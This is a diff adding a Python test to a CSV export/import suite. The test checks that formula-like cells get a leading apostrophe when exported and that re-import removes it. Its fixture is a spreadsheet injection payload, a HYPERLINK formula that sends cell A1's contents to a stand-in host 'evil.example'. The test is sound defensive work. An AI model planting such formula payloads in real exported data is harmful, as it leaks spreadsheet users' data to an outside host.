@@ -125,6 +125,30 @@ async def test_exports_the_ledger_for_managers_in_batches(
     ]
 
 
+async def test_a_cell_that_starts_like_a_formula_leaves_as_text_and_comes_back(
+    org: Org, other_org: Org
+) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    quoted = name.replace('"', '""')
+    await run(org, f'external_id,name,subscription_started_at\n@c-1,"{quoted}",2026-01-01\n')
+    _, _, content = await fetch(org, "/export/customers.csv")
+    row = rows_of(content)[1]
+    assert (row[1], row[2]) == ("'@c-1", "'" + name)
+    # The exported cells import as they were: the apostrophes come off again.
+    out = io.StringIO()
+    csv.writer(out).writerows(
+        [["external_id", "name", "subscription_started_at"], [*row[1:3], "2026-01-01"]]
+    )
+    await run(other_org, out.getvalue())
+    async with other_org.pool.acquire() as conn:
+        found = await conn.fetchrow(
+            "SELECT k.external_id, c.name FROM customers c JOIN import_keys k "
+            "ON k.org_id = c.org_id AND k.entity_id = c.id WHERE c.org_id = $1",
+            other_org.id,
+        )
+    assert (found["external_id"], found["name"]) == ("@c-1", name)
+
+
 async def test_an_empty_export_is_its_header(org: Org) -> None:
     status, _, content = await fetch(org, "/export/customers.csv")
     assert (status, content) == (200, (",".join(exports.COLUMNS["customers"]) + "\r\n").encode())
